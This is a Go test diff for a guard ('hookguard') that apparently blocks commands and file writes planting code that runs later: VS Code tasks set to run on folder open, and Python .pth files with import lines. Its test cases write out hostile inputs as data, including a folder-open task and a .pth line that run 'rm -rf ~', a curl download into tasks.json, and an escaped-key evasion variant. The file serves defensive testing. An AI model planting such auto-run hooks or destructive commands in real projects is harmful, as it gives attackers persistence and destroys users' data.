@@ -683,3 +683,58 @@ func TestPlaceNamesClean(t *testing.T) {
 		}
 	}
 }
+
+// Code started later by the person's editor or by every Python start: a VS Code task run on
+// folderOpen, a .pth file's import lines in site-packages. Stopped through every writer whose
+// text is known and through one whose text is not; an ordinary task, a .pth that only adds a
+// path, and files of the same names elsewhere pass.
+func TestStartFilesLaterCode(t *testing.T) {
+	w := newWorld(t)
+	write(t, filepath.Join(w.base, "evil.json"), []byte(`{"tasks":[{"label":"x","command":"make","runOptions":{"runOn":"folderOpen"}}]}`), 0o644)
+	write(t, filepath.Join(w.base, "ok.json"), []byte(`{"tasks":[{"label":"build","command":"make"}]}`), 0o644)
+	const sp = ".venv/lib/python3.12/site-packages/"
+	for _, c := range []struct{ cmd, rule string }{
+		{`echo '{"tasks":[{"label":"x","type":"shell","command":"rm -rf ~","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`, "startup-code"},
+		{`printf '{\n  // on open\n  "tasks": [{"command": "x", "runOptions": { "runOn" : "folderOpen" }}]\n}\n' > .vscode/tasks.json`, "startup-code"},
+		{`echo '{"tasks":[{"runOptions":{"run\u004fn":"folder\u004fpen"}}]}' > .vscode/tasks.json`, "startup-code"},
+		{"cp $BASE/evil.json .vscode/tasks.json", "startup-code"},
+		{"curl -s https://example.com/t.json -o .vscode/tasks.json", "startup-code"},
+		{"cat $BASE/evil.json | tee .vscode/tasks.json", "startup-code"},
+		{`echo 'import os; os.system("rm -rf ~")' > ` + sp + "evil.pth", "startup-code"},
+		{`printf '/opt/lib\nimport\tevil\n' > ` + sp + "x.pth", "startup-code"},
+		{`echo 'import sitecustom' >> ~/.local/lib/python3.11/site-packages/a.pth`, "startup-code"},
+		{`echo 'import os' > /usr/lib/python3/dist-packages/z.pth`, "startup-code"},
+		// Ordinary: a task run when asked, a .pth that adds a path, other files of those names.
+		{`echo '{"tasks":[{"label":"build","command":"make","runOptions":{"runOn":"default"}}]}' > .vscode/tasks.json`, ""},
+		{"cp $BASE/ok.json .vscode/tasks.json", ""},
+		{`echo '{"runOn":"folderOpen"}' > docs/tasks.json`, ""},
+		{"echo /home/u/src > " + sp + "local.pth", ""},
+		{"echo 'import os' > docs/notes.pth", ""},
+	} {
+		v := w.shell(t, c.cmd)
+		if c.rule == "" && v.Decision != hookguard.Allow || c.rule != "" && v.Rule != c.rule {
+			t.Errorf("%q: got %v %s (%s), want %q", c.cmd, v.Decision, v.Rule, v.Reason, c.rule)
+		}
+	}
+	for _, c := range []struct {
+		path, text, rule string
+		op               hookguard.Op
+	}{
+		{filepath.Join(w.root, ".vscode", "tasks.json"), `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`, "startup-code", hookguard.OpWrite},
+		{filepath.Join(w.root, ".vscode", "tasks.json"), `"folderOpen"`, "startup-code", hookguard.OpEdit},
+		{filepath.Join(w.root, sp, "x.pth"), "import evil\n", "startup-code", hookguard.OpWrite},
+		{filepath.Join(w.root, sp, "x.pth"), "; import evil", "startup-code", hookguard.OpEdit},
+		{filepath.Join(w.root, ".vscode", "tasks.json"), `{"tasks":[{"label":"t","command":"go test ./..."}]}`, "", hookguard.OpWrite},
+		{filepath.Join(w.root, sp, "x.pth"), "/opt/src\n", "", hookguard.OpWrite},
+	} {
+		ev := w.event(hookguard.PreFiles)
+		ev.Files = []hookguard.FileChange{{Path: c.path, Op: c.op, Text: c.text}}
+		v, err := (&Guard{}).Check(context.Background(), ev)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if c.rule == "" && v.Decision != hookguard.Allow || c.rule != "" && v.Rule != c.rule {
+			t.Errorf("%s %s %q: got %v %s (%s), want %q", c.op, c.path, c.text, v.Decision, v.Rule, v.Reason, c.rule)
+		}
+	}
+}
